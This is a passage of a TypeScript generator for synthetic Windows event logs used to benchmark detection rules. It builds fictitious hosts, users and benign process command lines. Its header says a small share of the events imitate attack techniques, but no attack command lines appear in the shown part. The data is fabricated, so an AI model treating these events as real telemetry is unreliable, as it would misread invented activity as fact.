/**
 * Benchmark events that look like a real Windows estate, as NDJSON, deterministic for a seed:
 *
 * - `process-creation`: Sysmon event 1 (90 %) and Security 4688 (10 %) process creations, flat (System
 *   fields `Channel`, `EventID`, `Computer` beside the EventData fields, as Zircolite and most SIEM
 *   exports flatten them). The background is hundreds of hosts and users, about 90 programs started by
 *   their real parents with their real command-line shapes (services, browsers and their helpers,
 *   Office, updaters, developer tools, admin scripts), per-user and per-version install paths, GUIDs,
 *   ports and file names, so images and command lines are many and distinct. A small share (0.4 %) is
 *   hands-on-keyboard attack activity that SigmaHQ rules are written for (LOLBins, credential dumping,
 *   shadow-copy deletion, encoded PowerShell, web shells, persistence), so matches are not rare.
 * - `windows`: the mix of log sources an estate ships: Sysmon 1, 3, 7, 11, 12, 13 and 22, Security
 *   4624 and 4688, PowerShell 4104 and System 7045, each with its own small suspicious share.
 *
 * The programs and techniques come from public documentation of Windows and of the techniques
 * (ATT&CK, LOLBAS); the web-shell share reuses the generators' catalogue of web servers.
 *
 * Run alone: `npx tsx bench/estate-events.ts process-creation|windows OUT.ndjson [count] [seed]`.
 */
import { once } from 'node:events';
import { createWriteStream } from 'node:fs';
import { mkdir } from 'node:fs/promises';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { WEB_SERVERS } from '../generators/catalog/index.js';
import { createRandom } from './gen-events.js';

/** A uniform random number in [0, 1). */
type Random = () => number;

const pick = <T>(random: Random, items: readonly T[]): T => items[Math.floor(random() * items.length)] as T;
const between = (random: Random, low: number, high: number): number => low + Math.floor(random() * (high - low + 1));
const hex = (random: Random, length: number, upper = true): string => {
  let out = '';
  for (let i = 0; i < length; i += 1) out += (upper ? '0123456789ABCDEF' : '0123456789abcdef')[Math.floor(random() * 16)];
  return out;
};
const guid = (random: Random): string => `${hex(random, 8)}-${hex(random, 4)}-${hex(random, 4)}-${hex(random, 4)}-${hex(random, 12)}`;

// ---------------------------------------------------------------------------------------------------
// The estate: hosts, people, service accounts.

const FIRST = ['james', 'mary', 'robert', 'patricia', 'john', 'jennifer', 'michael', 'linda', 'david', 'elizabeth', 'william', 'barbara', 'richard', 'susan', 'joseph', 'jessica', 'thomas', 'sarah', 'chris', 'karen', 'daniel', 'lisa', 'matthew', 'nancy', 'anthony', 'betty', 'mark', 'sandra', 'paul', 'ashley', 'steven', 'kim', 'andrew', 'emily', 'kenneth', 'donna', 'kevin', 'michelle', 'brian', 'carol', 'george', 'amanda', 'tim', 'melissa', 'ronald', 'deborah', 'jason', 'laura', 'ryan', 'anna', 'wei', 'yuki', 'omar', 'fatima', 'lukas', 'sofia', 'ivan', 'ana', 'mehmet', 'priya'];
const LAST = ['smith', 'johnson', 'williams', 'brown', 'jones', 'garcia', 'miller', 'davis', 'rodriguez', 'martinez', 'hernandez', 'lopez', 'gonzalez', 'wilson', 'anderson', 'thomas', 'taylor', 'moore', 'jackson', 'martin', 'lee', 'perez', 'thompson', 'white', 'harris', 'sanchez', 'clark', 'ramirez', 'lewis', 'robinson', 'walker', 'young', 'allen', 'king', 'wright', 'scott', 'torres', 'nguyen', 'hill', 'flores', 'green', 'adams', 'nelson', 'baker', 'hall', 'rivera', 'campbell', 'mitchell', 'carter', 'roberts', 'chen', 'wang', 'kumar', 'schmidt', 'muller', 'rossi', 'novak', 'kowalski', 'yilmaz', 'tanaka'];

interface Host {
  readonly name: string;
  readonly server: boolean;
  readonly users: readonly string[];
}

interface Estate {
  readonly hosts: readonly Host[];
  readonly users: readonly string[];
}

function createEstate(random: Random): Estate {
  const users: string[] = [];
  const seen = new Set<string>();
  while (users.length < 1500) {
    const name = `${pick(random, FIRST)}.${pick(random, LAST)}`;
    const unique = seen.has(name) ? `${name}${between(random, 2, 99)}` : name;
    if (seen.has(unique)) continue;
    seen.add(unique);
    users.push(unique);
  }
  const hosts: Host[] = [];
  for (let i = 0; i < 600; i += 1) {
    const server = i % 6 === 0;
    const prefix = server ? pick(random, ['SRV-APP', 'SRV-SQL', 'SRV-WEB', 'SRV-FS', 'SRV-DC', 'SRV-EXCH']) : pick(random, ['WS', 'LT', 'DESKTOP']);
    const name = `${prefix}-${String(i).padStart(4, '0')}${server ? '' : hex(random, 3)}`;
    const own = server ? [pick(random, users), pick(random, users)].map((user) => `adm-${user.split('.')[1]}`) : [pick(random, users)];
    hosts.push({ name, server, users: own });
  }
  return { hosts, users };
}

// ---------------------------------------------------------------------------------------------------
// Programs: where they live, who starts them and how.

/** The process being described, so a program's arguments can name the host, the user or a path. */
interface Context {
  readonly random: Random;
  readonly host: Host;
  readonly user: string;
  /** The user's profile folder. */
  readonly profile: string;
}

interface Pe {
  readonly description: string;
  readonly product: string;
  readonly company: string;
  readonly originalFileName: string;
  readonly fileVersion: string;
}

type Account = 'system' | 'local-service' | 'network-service' | 'user' | 'admin';

interface Program {
  readonly name: string;
  readonly image: (context: Context) => string;
  readonly args: (context: Context) => string;
  /** Names of the programs that start it; '' for a process whose parent is outside the log. */
  readonly parents: readonly string[];
  readonly account: Account;
  /** Relative frequency in the background. */
  readonly weight: number;
  readonly pe: Pe;
  readonly servers?: boolean;
}

const SYSTEM32 = 'C:\\Windows\\System32\\';
const MS = 'Microsoft Corporation';
const WINDOWS = 'Microsoft® Windows® Operating System';
const windowsPe = (description: string, originalFileName: string): Pe => ({
  description,
  product: WINDOWS,
  company: MS,
  originalFileName,
  fileVersion: '10.0.19041.3636 (WinBuild.160101.0800)',
});
const vendorPe = (description: string, product: string, company: string, originalFileName: string, fileVersion: string): Pe => ({
  description,
  product,
  company,
  originalFileName,
  fileVersion,
});
const system32 = (name: string): ((context: Context) => string) => () => `${SYSTEM32}${name}`;
const fixed = (text: string): ((context: Context) => string) => () => text;

const SERVICES = ['netsvcs -p -s Schedule', 'netsvcs -p -s gpsvc', 'LocalServiceNetworkRestricted -p -s EventLog', 'DcomLaunch -p', 'RPCSS -p', 'LocalSystemNetworkRestricted -p -s SysMain', 'netsvcs -p -s BITS', 'NetworkService -p -s Dnscache', 'LocalService -p -s BthAvctpSvc', 'UnistackSvcGroup -s CDPUserSvc', 'wsappx -p -s AppXSvc', 'netsvcs -p -s wuauserv', 'LocalServiceNoNetwork -p', 'netsvcs -p -s Winmgmt', 'appmodel -p -s StateRepository', 'netsvcs -p -s UsoSvc', 'LocalSystemNetworkRestricted -p -s TrkWks', 'NetworkService -p -s CryptSvc', 'netsvcs -p -s ShellHWDetection', 'LocalService -p -s W32Time', 'iissvcs'];
const DOCUMENTS = ['Q3 budget', 'minutes 2024-05-14', 'Proposal v2', 'Invoice 4471', 'roadmap', 'HR policy', 'travel expenses', 'Customer list', 'Board deck', 'Sales forecast', 'timesheet', 'contract draft'];
const SITES = ['sharepoint.contoso.com', 'portal.office.com', 'intranet.contoso.local', 'www.bing.com', 'outlook.office365.com', 'github.com', 'teams.microsoft.com', 'docs.microsoft.com'];
const FOLDERS = ['Documents', 'Desktop', 'Downloads', 'OneDrive - Contoso\\Projects', 'OneDrive - Contoso\\Shared'];
const REPOS = ['billing-api', 'web-frontend', 'infra', 'data-pipeline', 'mobile-app', 'docs'];
const BROWSER_TYPES = ['renderer', 'gpu-process', 'utility --utility-sub-type=network.mojom.NetworkService', 'utility --utility-sub-type=storage.mojom.StorageService', 'crashpad-handler'];

const documentPath = (context: Context, extension: string): string =>
  `${context.profile}\\${pick(context.random, FOLDERS)}\\${pick(context.random, DOCUMENTS)}${context.random() < 0.3 ? ` (${between(context.random, 1, 9)})` : ''}.${extension}`;
const chromeArgs = (context: Context, install: string): string => {
  const { random } = context;
  const type = pick(random, BROWSER_TYPES);
  return `--type=${type} --field-trial-handle=${between(random, 1000, 9999)},i,${between(random, 1e15, 9e15)},${between(random, 1e15, 9e15)},262144 --lang=en-US --service-sandbox-type=none --mojo-platform-channel-handle=${between(random, 1000, 9999)} /prefetch:${between(random, 1, 8)} --user-data-dir="${context.profile}\\AppData\\Local\\${install}\\User Data"`;
};
const version = (random: Random, major: number): string => `${major}.${between(random, 0, 9)}.${between(random, 1000, 6999)}.${between(random, 10, 250)}`;

const PROGRAMS: readonly Program[] = [
  // Session and service plumbing.
  { name: 'svchost.exe', image: system32('svchost.exe'), args: (c) => `C:\\Windows\\system32\\svchost.exe -k ${pick(c.random, SERVICES)}`, parents: ['services.exe'], account: 'system', weight: 60, pe: windowsPe('Host Process for Windows Services', 'svchost.exe') },
  { name: 'services.exe', image: system32('services.exe'), args: () => 'C:\\Windows\\system32\\services.exe', parents: ['wininit.exe'], account: 'system', weight: 0.1, pe: windowsPe('Services and Controller app', 'services.exe') },
  { name: 'wininit.exe', image: system32('wininit.exe'), args: () => 'wininit.exe', parents: [''], account: 'system', weight: 0.1, pe: windowsPe('Windows Start-Up Application', 'wininit.exe') },
  { name: 'winlogon.exe', image: system32('winlogon.exe'), args: () => 'winlogon.exe', parents: [''], account: 'system', weight: 0.2, pe: windowsPe('Windows Logon Application', 'WINLOGON.EXE') },
  { name: 'userinit.exe', image: system32('userinit.exe'), args: () => 'C:\\Windows\\system32\\userinit.exe', parents: ['winlogon.exe'], account: 'user', weight: 0.5, pe: windowsPe('Userinit Logon Application', 'USERINIT.EXE') },
  { name: 'explorer.exe', image: fixed('C:\\Windows\\explorer.exe'), args: () => 'C:\\Windows\\Explorer.EXE', parents: ['userinit.exe'], account: 'user', weight: 0.5, pe: windowsPe('Windows Explorer', 'EXPLORER.EXE') },
  { name: 'conhost.exe', image: system32('conhost.exe'), args: (c) => pick(c.random, ['\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1', '\\??\\C:\\Windows\\system32\\conhost.exe 0x4']), parents: ['cmd.exe', 'powershell.exe', 'git.exe', 'python.exe', 'node.exe', 'MpCmdRun.exe'], account: 'user', weight: 40, pe: windowsPe('Console Window Host', 'CONHOST.EXE') },
  { name: 'RuntimeBroker.exe', image: system32('RuntimeBroker.exe'), args: () => 'C:\\Windows\\System32\\RuntimeBroker.exe -Embedding', parents: ['svchost.exe'], account: 'user', weight: 12, pe: windowsPe('Runtime Broker', 'RuntimeBroker.exe') },
  { name: 'dllhost.exe', image: system32('dllhost.exe'), args: (c) => `C:\\Windows\\system32\\DllHost.exe /Processid:{${guid(c.random)}}`, parents: ['svchost.exe'], account: 'user', weight: 12, pe: windowsPe('COM Surrogate', 'dllhost.exe') },
  { name: 'backgroundTaskHost.exe', image: system32('backgroundTaskHost.exe'), args: (c) => `"C:\\Windows\\system32\\backgroundTaskHost.exe" -ServerName:${pick(c.random, ['BackgroundTaskHost.WebAccountProvider', 'App.AppXmtcan0h2tfbfy7k9kn8hbxb6dmzz1zh0.mca', 'CortanaUI.AppXy7vb4pc2dr3kc93kfc509b1d0arkfb2x.mca'])}`, parents: ['svchost.exe'], account: 'user', weight: 8, pe: windowsPe('Background Task Host', 'backgroundTaskHost.exe') },
  { name: 'taskhostw.exe', image: system32('taskhostw.exe'), args: (c) => pick(c.random, ['taskhostw.exe', 'taskhostw.exe KEYROAMING', 'taskhostw.exe Install $(Arg0)', 'taskhostw.exe -RegisterDevice -ProtectionStateChanged -FreeNetworkOnly']), parents: ['svchost.exe'], account: 'user', weight: 8, pe: windowsPe('Host Process for Windows Tasks', 'taskhostw.exe') },
  { name: 'SearchProtocolHost.exe', image: system32('SearchProtocolHost.exe'), args: (c) => `"C:\\Windows\\system32\\SearchProtocolHost.exe" Global\\UsGthrFltPipeMssGthrPipe${between(c.random, 1, 400)}_ Global\\UsGthrCtrlFltPipeMssGthrPipe${between(c.random, 1, 400)} 1 -2147483646 "Software\\Microsoft\\Windows Search" "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT; MS Search 4.0 Robot)" "C:\\ProgramData\\Microsoft\\Search\\Data\\Temp\\usgthrsvc" "DownLevelDaemon"`, parents: ['SearchIndexer.exe'], account: 'system', weight: 10, pe: windowsPe('Microsoft Windows Search Protocol Host', 'SearchProtocolHost.exe') },
  { name: 'SearchFilterHost.exe', image: system32('SearchFilterHost.exe'), args: (c) => `"C:\\Windows\\system32\\SearchFilterHost.exe" 0 ${between(c.random, 600, 900)} ${between(c.random, 600, 900)} ${between(c.random, 600, 900)} 8192 ${between(c.random, 600, 900)}`, parents: ['SearchIndexer.exe'], account: 'system', weight: 8, pe: windowsPe('Microsoft Windows Search Filter Host', 'SearchFilterHost.exe') },
  { name: 'SearchIndexer.exe', image: system32('SearchIndexer.exe'), args: () => 'C:\\Windows\\system32\\SearchIndexer.exe /Embedding', parents: ['services.exe'], account: 'system', weight: 0.2, pe: windowsPe('Microsoft Windows Search Indexer', 'SearchIndexer.exe') },
  { name: 'WmiPrvSE.exe', image: system32('wbem\\WmiPrvSE.exe'), args: (c) => pick(c.random, ['C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding', 'C:\\Windows\\system32\\wbem\\wmiprvse.exe -Embedding']), parents: ['svchost.exe'], account: 'network-service', weight: 6, pe: windowsPe('WMI Provider Host', 'Wmiprvse.exe') },
  { name: 'smartscreen.exe', image: system32('smartscreen.exe'), args: () => 'C:\\Windows\\System32\\smartscreen.exe -Embedding', parents: ['svchost.exe'], account: 'user', weight: 3, pe: windowsPe('Windows Defender SmartScreen', 'smartscreen.exe') },
  { name: 'sppsvc.exe', image: system32('sppsvc.exe'), args: () => 'C:\\Windows\\system32\\sppsvc.exe', parents: ['services.exe'], account: 'network-service', weight: 1, pe: windowsPe('Microsoft Software Protection Platform Service', 'sppsvc.exe') },
  { name: 'audiodg.exe', image: system32('audiodg.exe'), args: () => 'C:\\Windows\\system32\\AUDIODG.EXE 0x4a4', parents: ['svchost.exe'], account: 'local-service', weight: 2, pe: windowsPe('Windows Audio Device Graph Isolation', 'audiodg.exe') },
  { name: 'consent.exe', image: system32('consent.exe'), args: (c) => `consent.exe ${between(c.random, 900, 9000)} ${between(c.random, 200, 600)} 000001${hex(c.random, 6)}`, parents: ['svchost.exe'], account: 'system', weight: 1, pe: windowsPe('Consent UI for administrative applications', 'consent.exe') },
  { name: 'sihost.exe', image: system32('sihost.exe'), args: () => 'sihost.exe', parents: ['svchost.exe'], account: 'user', weight: 0.5, pe: windowsPe('Shell Infrastructure Host', 'sihost.exe') },
  { name: 'ctfmon.exe', image: system32('ctfmon.exe'), args: () => '"ctfmon.exe"', parents: ['svchost.exe'], account: 'user', weight: 0.5, pe: windowsPe('CTF Loader', 'CTFMON.EXE') },
  { name: 'TiWorker.exe', image: (c) => `C:\\Windows\\WinSxS\\amd64_microsoft-windows-servicingstack_31bf3856ad364e35_10.0.19041.${between(c.random, 3000, 4000)}_none_7e2b${hex(c.random, 12, false)}\\TiWorker.exe`, args: () => 'C:\\Windows\\winsxs\\amd64_microsoft-windows-servicingstack\\TiWorker.exe -Embedding', parents: ['svchost.exe'], account: 'system', weight: 1, pe: windowsPe('Windows Modules Installer Worker', 'TiWorker.exe') },
  { name: 'wuauclt.exe', image: system32('wuauclt.exe'), args: (c) => `"C:\\Windows\\system32\\wuauclt.exe" /UpdateDeploymentProvider UpdateDeploymentProvider.dll /ClassId ${guid(c.random).toLowerCase()} /RunHandlerComServer`, parents: ['svchost.exe'], account: 'system', weight: 2, pe: windowsPe('Windows Update', 'wuauclt.exe') },
  { name: 'MoUsoCoreWorker.exe', image: system32('MoUsoCoreWorker.exe'), args: () => 'C:\\Windows\\System32\\mousocoreworker.exe -Embedding', parents: ['svchost.exe'], account: 'system', weight: 2, pe: windowsPe('MoUSO Core Worker Process', 'MoUsoCoreWorker.exe') },
  { name: 'CompatTelRunner.exe', image: system32('CompatTelRunner.exe'), args: (c) => `C:\\Windows\\system32\\compattelrunner.exe -m:${pick(c.random, ['appraiser.dll -f:DoScheduledTelemetryRun', 'invagent.dll -f:RunUpdate', 'devinv.dll -f:CreateDeviceInventory'])}`, parents: ['svchost.exe'], account: 'system', weight: 1, pe: windowsPe('Microsoft Compatibility Telemetry', 'CompatTelRunner.exe') },
  { name: 'gpupdate.exe', image: system32('gpupdate.exe'), args: (c) => pick(c.random, ['gpupdate /force', 'gpupdate.exe /target:computer', 'gpupdate']), parents: ['cmd.exe', 'svchost.exe'], account: 'admin', weight: 1, pe: windowsPe('Microsoft® Windows Group Policy Update', 'gpupdate.exe') },
  { name: 'msiexec.exe', image: system32('msiexec.exe'), args: (c) => pick(c.random, ['C:\\Windows\\system32\\msiexec.exe /V', `C:\\Windows\\System32\\MsiExec.exe -Embedding ${hex(c.random, 32)} C`, `"C:\\Windows\\System32\\msiexec.exe" /i "${c.profile}\\Downloads\\${pick(c.random, ['Zoom', 'GoogleChrome', 'NotepadPlusPlus', '7z', 'Teams'])}-${version(c.random, between(c.random, 1, 24))}.msi" /qn`]), parents: ['services.exe', 'explorer.exe', 'CcmExec.exe'], account: 'system', weight: 4, pe: windowsPe('Windows® installer', 'msiexec.exe') },
  { name: 'rundll32.exe', image: system32('rundll32.exe'), args: (c) => pick(c.random, ['C:\\Windows\\system32\\rundll32.exe C:\\Windows\\system32\\PcaSvc.dll,PcaPatchSdbTask', 'rundll32.exe C:\\Windows\\system32\\inetcpl.cpl,ClearMyTracksByProcess Flags:264 WinX:0', '"C:\\Windows\\system32\\rundll32.exe" C:\\Windows\\system32\\shell32.dll,SHCreateLocalServerRunDll {9aa46009-3ce0-458a-a354-715610a075e6} -Embedding', 'C:\\Windows\\System32\\rundll32.exe C:\\Windows\\System32\\Windows.StateRepositoryClient.dll,StateRepositoryDoMaintenanceTasks']), parents: ['svchost.exe', 'explorer.exe', 'taskhostw.exe'], account: 'user', weight: 4, pe: windowsPe('Windows host process (Rundll32)', 'RUNDLL32.EXE') },
  { name: 'MsMpEng.exe', image: (c) => `C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.${between(c.random, 23000, 24090)}.${between(c.random, 1, 9)}-0\\MsMpEng.exe`, args: () => '"C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24090.11-0\\MsMpEng.exe"', parents: ['services.exe'], account: 'system', weight: 0.3, pe: vendorPe('Antimalware Service Executable', WINDOWS, MS, 'MsMpEng.exe', '4.18.24090.11') },
  { name: 'MpCmdRun.exe', image: (c) => `C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.${between(c.random, 23000, 24090)}.${between(c.random, 1, 9)}-0\\MpCmdRun.exe`, args: (c) => `"C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24090.11-0\\MpCmdRun.exe" ${pick(c.random, ['SignaturesUpdateService -ScheduleJob -UnmanagedUpdate', '-IdleTask -TaskName WdCacheMaintenance', 'Scan -ScheduleJob -ScanTrigger 55 -IdleScheduledJob', '-wdenable', 'GetDeviceTicket -AccessKey ' + guid(c.random)])}`, parents: ['MsMpEng.exe', 'svchost.exe'], account: 'system', weight: 4, pe: vendorPe('Microsoft Malware Protection Command Line Utility', WINDOWS, MS, 'MpCmdRun.exe', '4.18.24090.11') },
  { name: 'CcmExec.exe', image: fixed('C:\\Windows\\CCM\\CcmExec.exe'), args: () => 'C:\\Windows\\CCM\\CcmExec.exe', parents: ['services.exe'], account: 'system', weight: 0.2, pe: vendorPe('Host Process for Microsoft Configuration Manager', 'System Center Configuration Manager', MS, 'CcmExec.exe', '5.00.9106.1000') },
  { name: 'CcmEval.exe', image: fixed('C:\\Windows\\CCM\\CcmEval.exe'), args: () => 'C:\\Windows\\CCM\\CcmEval.exe', parents: ['svchost.exe'], account: 'system', weight: 1, pe: vendorPe('Configuration Manager Health Evaluation', 'System Center Configuration Manager', MS, 'CcmEval.exe', '5.00.9106.1000') },
  { name: 'vmtoolsd.exe', image: fixed('C:\\Program Files\\VMware\\VMware Tools\\vmtoolsd.exe'), args: () => '"C:\\Program Files\\VMware\\VMware Tools\\vmtoolsd.exe" -n vmusr', parents: ['explorer.exe', 'services.exe'], account: 'user', weight: 0.5, pe: vendorPe('VMware Tools Core Service', 'VMware Tools', 'VMware, Inc.', 'vmtoolsd.exe', '12.3.5.22544') },
  { name: 'splunkd.exe', image: fixed('C:\\Program Files\\SplunkUniversalForwarder\\bin\\splunkd.exe'), args: (c) => `"C:\\Program Files\\SplunkUniversalForwarder\\bin\\splunk-${pick(c.random, ['winevtlog', 'admon', 'netmon', 'perfmon', 'powershell'])}.exe"`, parents: ['services.exe'], account: 'system', weight: 2, pe: vendorPe('splunkd', 'Splunk Universal Forwarder', 'Splunk Inc.', 'splunkd.exe', '9.1.2') },
  // Users' applications: per-user installs, versioned folders, long helper command lines.
  { name: 'chrome.exe', image: fixed('C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe'), args: (c) => `"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" ${chromeArgs(c, 'Google\\Chrome')}`, parents: ['chrome.exe', 'explorer.exe'], account: 'user', weight: 70, pe: vendorPe('Google Chrome', 'Google Chrome', 'Google LLC', 'chrome.exe', '124.0.6367.119') },
  { name: 'msedge.exe', image: fixed('C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe'), args: (c) => `"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe" ${chromeArgs(c, 'Microsoft\\Edge')}`, parents: ['msedge.exe', 'explorer.exe'], account: 'user', weight: 50, pe: vendorPe('Microsoft Edge', 'Microsoft Edge', MS, 'msedge.exe', '124.0.2478.80') },
  { name: 'firefox.exe', image: fixed('C:\\Program Files\\Mozilla Firefox\\firefox.exe'), args: (c) => `"C:\\Program Files\\Mozilla Firefox\\firefox.exe" -contentproc --channel=${between(c.random, 1000, 9999)}.${between(c.random, 1, 60)}.${between(c.random, 1e8, 9e8)} -childID ${between(c.random, 1, 90)} -isForBrowser -prefsLen ${between(c.random, 20000, 40000)} -prefMapSize 244343 -jsInitLen 234236 -parentBuildID 20240429 -appDir "C:\\Program Files\\Mozilla Firefox\\browser" - ${between(c.random, 1000, 9999)} ${between(c.random, 1e8, 9e8)} tab`, parents: ['firefox.exe'], account: 'user', weight: 12, pe: vendorPe('Firefox', 'Firefox', 'Mozilla Corporation', 'firefox.exe', '125.0.3') },
  { name: 'Teams.exe', image: (c) => `${c.profile}\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe`, args: (c) => `"${c.profile}\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe" --type=renderer --autoplay-policy=no-user-gesture-required --disable-background-timer-throttling --field-trial-handle=${between(c.random, 1000, 9999)},${between(c.random, 1e15, 9e15)} --lang=en-US --app-path="${c.profile}\\AppData\\Local\\Microsoft\\Teams\\current\\resources\\app.asar" --device-scale-factor=1 --num-raster-threads=4 --renderer-client-id=${between(c.random, 5, 40)} /prefetch:1`, parents: ['Teams.exe', 'explorer.exe'], account: 'user', weight: 16, pe: vendorPe('Microsoft Teams', 'Microsoft Teams', MS, 'Teams.exe', '1.7.00.10152') },
  { name: 'OneDrive.exe', image: (c) => `${c.profile}\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe`, args: (c) => `"${c.profile}\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe" ${pick(c.random, ['/background', '/updateInstalled /background', '-Embedding', '/silent'])}`, parents: ['explorer.exe', 'svchost.exe'], account: 'user', weight: 3, pe: vendorPe('Microsoft OneDrive', 'Microsoft OneDrive', MS, 'OneDrive.exe', '24.076.0414.0003') },
  { name: 'Code.exe', image: (c) => `${c.profile}\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe`, args: (c) => `"${c.profile}\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe" --type=${pick(c.random, ['renderer', 'utility --utility-sub-type=node.mojom.NodeService', 'gpu-process'])} --user-data-dir="${c.profile}\\AppData\\Roaming\\Code" --standard-schemes=vscode-webview,vscode-file --enable-sandbox --field-trial-handle=${between(c.random, 1000, 9999)},i,${between(c.random, 1e15, 9e15)} /prefetch:${between(c.random, 1, 8)}`, parents: ['Code.exe', 'explorer.exe'], account: 'user', weight: 8, pe: vendorPe('Visual Studio Code', 'Visual Studio Code', MS, 'electron.exe', '1.89.1') },
  { name: 'slack.exe', image: (c) => `${c.profile}\\AppData\\Local\\slack\\app-4.${between(c.random, 33, 38)}.${between(c.random, 90, 130)}\\slack.exe`, args: (c) => `"${c.profile}\\AppData\\Local\\slack\\app-4.37.101\\slack.exe" --type=renderer --user-data-dir="${c.profile}\\AppData\\Roaming\\Slack" --app-path="${c.profile}\\AppData\\Local\\slack\\app-4.37.101\\resources\\app.asar" --renderer-client-id=${between(c.random, 4, 30)} --field-trial-handle=${between(c.random, 1000, 9999)} /prefetch:1`, parents: ['slack.exe'], account: 'user', weight: 5, pe: vendorPe('Slack', 'Slack', 'Slack Technologies, LLC.', 'slack.exe', '4.37.101') },
  { name: 'Zoom.exe', image: (c) => `${c.profile}\\AppData\\Roaming\\Zoom\\bin\\Zoom.exe`, args: (c) => `"${c.profile}\\AppData\\Roaming\\Zoom\\bin\\Zoom.exe" "--action=join&confno=${between(c.random, 1e9, 9e9)}&pwd=${hex(c.random, 16, false)}"`, parents: ['chrome.exe', 'msedge.exe', 'explorer.exe'], account: 'user', weight: 2, pe: vendorPe('Zoom Meetings', 'Zoom Meetings', 'Zoom Video Communications, Inc.', 'Zoom.exe', '5.17.11.34827') },
  { name: 'WINWORD.EXE', image: fixed('C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE'), args: (c) => `"C:\\Program Files\\Microsoft Office\\Root\\Office16\\WINWORD.EXE" /n "${documentPath(c, 'docx')}" /o ""`, parents: ['explorer.exe', 'OUTLOOK.EXE'], account: 'user', weight: 3, pe: vendorPe('Microsoft Word', 'Microsoft Office', MS, 'WinWord.exe', '16.0.17425.20176') },
  { name: 'EXCEL.EXE', image: fixed('C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE'), args: (c) => `"C:\\Program Files\\Microsoft Office\\Root\\Office16\\EXCEL.EXE" "${documentPath(c, 'xlsx')}"`, parents: ['explorer.exe', 'OUTLOOK.EXE'], account: 'user', weight: 3, pe: vendorPe('Microsoft Excel', 'Microsoft Office', MS, 'Excel.exe', '16.0.17425.20176') },
  { name: 'POWERPNT.EXE', image: fixed('C:\\Program Files\\Microsoft Office\\root\\Office16\\POWERPNT.EXE'), args: (c) => `"C:\\Program Files\\Microsoft Office\\Root\\Office16\\POWERPNT.EXE" "${documentPath(c, 'pptx')}"`, parents: ['explorer.exe', 'OUTLOOK.EXE'], account: 'user', weight: 1, pe: vendorPe('Microsoft PowerPoint', 'Microsoft Office', MS, 'PowerPnt.exe', '16.0.17425.20176') },
  { name: 'OUTLOOK.EXE', image: fixed('C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE'), args: () => '"C:\\Program Files\\Microsoft Office\\Root\\Office16\\OUTLOOK.EXE"', parents: ['explorer.exe'], account: 'user', weight: 1, pe: vendorPe('Microsoft Outlook', 'Microsoft Office', MS, 'Outlook.exe', '16.0.17425.20176') },
  { name: 'OfficeClickToRun.exe', image: fixed('C:\\Program Files\\Common Files\\microsoft shared\\ClickToRun\\OfficeClickToRun.exe'), args: () => '"C:\\Program Files\\Common Files\\Microsoft Shared\\ClickToRun\\OfficeClickToRun.exe" /service', parents: ['services.exe'], account: 'system', weight: 1, pe: vendorPe('Microsoft Office Click-to-Run', 'Microsoft Office', MS, 'OfficeClickToRun.exe', '16.0.17425.20176') },
  { name: 'AcroRd32.exe', image: fixed('C:\\Program Files (x86)\\Adobe\\Acrobat Reader DC\\Reader\\AcroRd32.exe'), args: (c) => `"C:\\Program Files (x86)\\Adobe\\Acrobat Reader DC\\Reader\\AcroRd32.exe" "${documentPath(c, 'pdf')}"`, parents: ['explorer.exe', 'OUTLOOK.EXE', 'chrome.exe'], account: 'user', weight: 3, pe: vendorPe('Adobe Acrobat Reader', 'Adobe Acrobat Reader', 'Adobe Systems Incorporated', 'AcroRd32.exe', '24.2.20687.0') },
  { name: 'notepad.exe', image: system32('notepad.exe'), args: (c) => `"C:\\Windows\\system32\\NOTEPAD.EXE" ${documentPath(c, 'txt')}`, parents: ['explorer.exe'], account: 'user', weight: 2, pe: windowsPe('Notepad', 'NOTEPAD.EXE') },
  { name: 'mstsc.exe', image: system32('mstsc.exe'), args: (c) => `"C:\\Windows\\system32\\mstsc.exe" /v:SRV-APP-${String(between(c.random, 0, 99) * 6).padStart(4, '0')}`, parents: ['explorer.exe'], account: 'user', weight: 1, pe: windowsPe('Remote Desktop Connection', 'mstsc.exe') },
  { name: 'GoogleUpdate.exe', image: fixed('C:\\Program Files (x86)\\Google\\Update\\GoogleUpdate.exe'), args: (c) => `"C:\\Program Files (x86)\\Google\\Update\\GoogleUpdate.exe" ${pick(c.random, ['/ua /installsource scheduler', '/c', '/svc', '/medsvc'])}`, parents: ['svchost.exe', 'services.exe'], account: 'system', weight: 3, pe: vendorPe('Google Installer', 'Google Update', 'Google LLC', 'GoogleUpdate.exe', '1.3.36.372') },
  { name: 'MicrosoftEdgeUpdate.exe', image: fixed('C:\\Program Files (x86)\\Microsoft\\EdgeUpdate\\MicrosoftEdgeUpdate.exe'), args: (c) => `"C:\\Program Files (x86)\\Microsoft\\EdgeUpdate\\MicrosoftEdgeUpdate.exe" ${pick(c.random, ['/ua /installsource scheduler', '/c', '/svc'])}`, parents: ['svchost.exe'], account: 'system', weight: 3, pe: vendorPe('Microsoft Edge Update', 'Microsoft Edge Update', MS, 'msedgeupdate.dll', '1.3.185.29') },
